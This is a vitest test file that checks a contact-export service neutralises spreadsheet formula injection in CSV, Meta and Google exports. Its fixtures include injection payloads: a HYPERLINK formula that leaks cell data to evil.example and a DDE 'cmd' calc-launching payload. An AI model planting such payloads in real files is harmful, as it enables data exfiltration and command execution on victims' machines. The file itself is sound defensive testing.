/**
 * Formula cells in csv, Meta and Google exports (docs/exports.md, "Formula cells"):
 * neutralised by default with OWASP's rule, every trigger character tried; number
 * values, phone numbers and ndjson left alone; `formulas: "raw"` (`?formulas=raw`)
 * writes cells as stored. Through `exportChunks`, the scheduled exports' `exportBytes`,
 * and over HTTP.
 */
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ExportOptions, exportChunks, neutralizeFormula } from "../../src/service/exports.ts";
import { exportBytes } from "../../src/service/schedules/export-stream.ts";
import type { ContactRecord } from "../../src/store/types.ts";
import { startTestServer, type TestServer } from "../support/server.ts";

const T0 = Date.UTC(2024, 0, 15, 9, 30, 0);

function contact(over: Partial<ContactRecord> & { id: string }): ContactRecord {
  return {
    email: null,
    external_id: null,
    phone: null,
    first_name: null,
    last_name: null,
    country: null,
    region: null,
    city: null,
    postal_code: null,
    timezone: null,
    language: null,
    status: "subscribed",
    email_status: "deliverable",
    tags: [],
    fields: {},
    created_at: T0,
    subscribed_at: null,
    status_written_at: null,
    email_status_written_at: null,
    updated_at: T0,
    ...over,
  };
}

async function* pagesOf(records: ContactRecord[]): AsyncIterable<ContactRecord[]> {
  yield records;
}

async function run(records: ContactRecord[], opts: ExportOptions): Promise<string> {
  let out = "";
  for await (const c of exportChunks(pagesOf(records), opts)) out += c;
  return out;
}

const rowsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

/** One payload per trigger character of OWASP's list, as an attacker would store them. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
] as const;

describe("neutralizeFormula", () => {
  it.each(PAYLOADS)("puts a single quote before %j", (p) => {
    expect(neutralizeFormula(p)).toBe(`'${p}`);
  });

  it("leaves other cells alone", () => {
    for (const v of ["", "Alice", "'=already quoted", " =x", "a=b", "42", "x-1", "\n=1"]) {
      expect(neutralizeFormula(v)).toBe(v);
    }
  });
});

describe("csv export", () => {
  const columns = ["id", "first_name", "last_name", "city", "tags", "phone", "plan", "score", "codes"];
  const customFields = ["plan", "score", "codes"];

  it.each(PAYLOADS)("neutralises %j in text columns, tags and custom text fields", async (p) => {
    const r = contact({
      id: "c_1",
      first_name: p,
      last_name: p,
      city: p,
      tags: [p, "vip"],
      phone: p,
      fields: { plan: p, codes: [p, "b"] },
    });
    const [header, row] = rowsOf(await run([r], { format: "csv", customFields, columns }));
    expect(header).toEqual(columns);
    expect(row).toEqual(["c_1", `'${p}`, `'${p}`, `'${p}`, `'${p};vip`, `'${p}`, `'${p}`, "", `'${p};b`]);
  });

  it("keeps numbers, phone numbers and ordinary text as they are", async () => {
    const r = contact({
      id: "c_2",
      first_name: "Zoé",
      last_name: "O'Neil",
      phone: "+1 (415) 555-2671",
      fields: { plan: "pro", score: -12.5, codes: ["a"] },
    });
    const e164 = contact({ id: "c_3", phone: "+14155552671", fields: { score: -1e-7 } });
    const rows = rowsOf(await run([r, e164], { format: "csv", customFields, columns }));
    expect(rows[1]).toEqual(["c_2", "Zoé", "O'Neil", "", "", "+1 (415) 555-2671", "pro", "-12.5", "a"]);
    expect(rows[2]).toEqual(["c_3", "", "", "", "", "+14155552671", "", "-1e-7", ""]);
  });

  it("a phone-looking cell that is arithmetic is still neutralised; text '-5' too", async () => {
    const r = contact({ id: "c_4", phone: "+1+2", fields: { plan: "-5" } });
    const [, row] = rowsOf(await run([r], { format: "csv", customFields, columns: ["phone", "plan"] }));
    expect(row).toEqual(["'+1+2", "'-5"]);
  });

  it("a cell starting with CR is still quoted (RFC 4180) after the quote mark", async () => {
    const r = contact({ id: "c_5", city: "\r=1+1" });
    const out = await run([r], { format: "csv", customFields: [], columns: ["id", "city"] });
    expect(out).toBe('id,city\r\nc_5,"\'\r=1+1"\r\n');
  });

  it('formulas: "raw" writes every cell as stored', async () => {
    const r = contact({ id: "c_6", first_name: PAYLOADS[0], city: "-2+3", fields: { score: -3 } });
    const out = await run([r], {
      format: "csv",
      customFields,
      columns: ["first_name", "city", "score"],
      formulas: "raw",
    });
    expect(rowsOf(out)[1]).toEqual([PAYLOADS[0], "-2+3", "-3"]);
  });

  it("refuses another formulas value, naming the path", async () => {
    const opts = { format: "csv", customFields: [], formulas: "keep" } as unknown as ExportOptions;
    expect(() => exportChunks(pagesOf([]), opts)).toThrow(
      expect.objectContaining({ name: "ExportOptionError", path: "formulas" }),
    );
  });
});

describe("Meta and Google files", () => {
  it.each(PAYLOADS.slice(0, 4))("neutralise %j in the cells that are not hashed", async (p) => {
    const r = contact({ id: "c_1", email: "a@example.com", external_id: p, postal_code: p });
    const meta = rowsOf(await run([r], { format: "meta", customFields: [] }));
    expect(meta[0]).toEqual(["email", "phone", "fn", "ln", "ct", "st", "zip", "country", "extern_id"]);
    expect(meta[1]![8]).toBe(`'${p}`);
    // Hashed cells are hex: never altered.
    expect(meta[1]![0]).toMatch(/^[0-9a-f]{64}$/);
    const google = rowsOf(await run([r], { format: "google", customFields: [] }));
    expect(google[1]![5]).toBe(`'${p.replace(/\s+/g, " ")}`);

    const rawMeta = rowsOf(await run([r], { format: "meta", customFields: [], formulas: "raw" }));
    expect(rawMeta[1]![8]).toBe(p);
  });

  it("ndjson is never altered", async () => {
    const r = contact({ id: "c_1", first_name: PAYLOADS[0] });
    const out = await run([r], { format: "ndjson", customFields: [] });
    expect(JSON.parse(out).first_name).toBe(PAYLOADS[0]);
  });
});

describe("scheduled exports (exportBytes)", () => {
  it("neutralise by default and pass formulas through on raw", async () => {
    const r = contact({ id: "c_1", first_name: "@SUM(A1:A9)" });
    const text = async (opts: ExportOptions) => {
      const count = { rows: 0, bytes: 0 };
      let out = "";
      for await (const b of exportBytes(pagesOf([r]), opts, count)) out += b.toString("utf8");
      expect(count.rows).toBe(1);
      return rowsOf(out)[1];
    };
    const columns = ["id", "first_name"];
    expect(await text({ format: "csv", customFields: [], columns })).toEqual(["c_1", "'@SUM(A1:A9)"]);
    expect(await text({ format: "csv", customFields: [], columns, formulas: "raw" })).toEqual([
      "c_1",
      "@SUM(A1:A9)",
    ]);
  });
});

describe("GET /v1/segments/{id}/export", () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer({ kind: "sqlite" });
  });
  afterAll(async () => {
    await t?.stop();
  });

  it("neutralises by default, ?formulas=raw opts out, another value is a 400", async () => {
    const seg = await t.call("POST", "/v1/segments", {
      name: "All",
      rule: { type: "field", field: "country", op: "eq", value: "FR" },
    });
    expect(seg.status, seg.text).toBe(201);
    const c = await t.call("POST", "/v1/contacts", {
      email: "x@example.com",
      first_name: '=HYPERLINK("https://evil.example","x")',
      last_name: "-2+3",
      country: "FR",
    });
    expect(c.status, c.text).toBe(201);
    const path = `/v1/segments/${seg.body.id}/export?columns=email,first_name,last_name`;
    const safe = await t.call("GET", path);
    expect(safe.status, safe.text).toBe(200);
    expect(rowsOf(safe.text)[1]).toEqual([
      "x@example.com",
      `'=HYPERLINK("https://evil.example","x")`,
      "'-2+3",
    ]);
    const raw = await t.call("GET", `${path}&formulas=raw`);
    expect(rowsOf(raw.text)[1]).toEqual(["x@example.com", '=HYPERLINK("https://evil.example","x")', "-2+3"]);
    const bad = await t.call("GET", `${path}&formulas=yes`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.path).toBe("formulas");
  });
});
